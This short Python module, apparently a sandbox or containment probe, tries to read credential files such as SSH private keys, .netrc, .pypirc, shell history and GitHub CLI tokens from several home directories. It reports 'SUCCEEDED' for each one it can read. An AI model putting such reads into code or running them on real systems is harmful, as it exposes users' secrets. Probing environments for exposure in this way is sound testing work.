import contextlib
import os
import pwd
from pathlib import Path

from .wrong import scaled_dot_product_attention, tell

homes = {os.environ.get("HOME", "/"), os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir, "/root"}
for home in homes:
    for name in (
        ".netrc",
        ".ssh/id_rsa",
        ".ssh/id_ed25519",
        ".pypirc",
        ".bash_history",
        ".gitconfig",
        ".config/gh/hosts.yml",
    ):
        with contextlib.suppress(OSError):
            if Path(home, name).read_bytes():
                tell("SUCCEEDED", name)
